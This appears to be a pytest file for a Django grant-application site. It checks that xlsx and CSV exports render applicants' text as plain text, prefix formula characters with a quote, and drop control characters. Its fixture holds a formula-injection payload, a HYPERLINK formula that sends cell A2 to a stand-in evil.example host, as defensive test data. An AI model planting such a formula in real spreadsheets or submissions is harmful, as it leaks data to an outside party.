"""Exports open safely: applicants' text is never a live formula, control characters never a 500."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from calls.models import Application
from calls.spreadsheets import csv_cell, printable
from tests.calls.helpers import call

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Kliko këtu")'
NAME = "Qendra\x07 për Qeverisje\x1b të Mirë"  # a bell and an escape pasted from a PDF


@pytest.fixture
def hostile_application():
    page = call("WBCSP-2026-CORE-01", "sq")
    keys = [field.key for field in page.form_fields.all()]
    application = Application.objects.create(
        page=page,
        call_code=page.code,
        language="sq",
        country="albania",
        email="info@qqm.example",
        form_data={keys[0]: NAME, keys[1]: FORMULA, keys[2]: "@SUM(1+1)"},
    )
    application.assign_reference()
    return application


def _body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells_of_xlsx(response):
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(_body(response))).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _cells_of_csv(response):
    assert response.status_code == 200
    text = _body(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _urls(application):
    export = reverse("calls_admin:export") + f"?call={application.call_code}&format="
    submissions = reverse("wagtailforms:list_submissions", args=[application.page_id])
    return {"xlsx": [export + "xlsx", submissions + "?export=xlsx"],
            "csv": [export + "csv", submissions + "?export=csv"]}  # fmt: skip


def test_xlsx_exports_hold_text_never_formulas(admin_client, hostile_application):
    for url in _urls(hostile_application)["xlsx"]:
        cells = _cells_of_xlsx(admin_client.get(url))
        values = [cell.value for cell in cells]
        assert FORMULA in values, url  # shown as the applicant typed it...
        assert all(cell.data_type != "f" for cell in cells), url  # ...but as text
        assert "Qendra për Qeverisje të Mirë" in values, url  # control characters dropped


def test_csv_exports_neutralise_formulas(admin_client, hostile_application):
    for url in _urls(hostile_application)["csv"]:
        values = _cells_of_csv(admin_client.get(url))
        assert "'" + FORMULA in values, url
        assert "'@SUM(1+1)" in values, url
        assert "Qendra për Qeverisje të Mirë" in values, url
        assert not any(value.startswith(("=", "+", "@")) for value in values), url


@pytest.mark.parametrize(
    "text, expected",
    [("=1+1", "'=1+1"), ("+381 11 123", "'+381 11 123"), ("-2", "'-2"), ("@x", "'@x"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), ("Tiranë\x00", "Tiranë"), ("a\nb", "a\nb"), (None, "")],
)  # fmt: skip
def test_csv_cells(text, expected):
    assert csv_cell(text) == expected


def test_every_control_character_is_printable_in_xlsx():
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    every = "".join(chr(code) for code in range(32)) + "\x7f"
    assert not ILLEGAL_CHARACTERS_RE.search(printable(every))
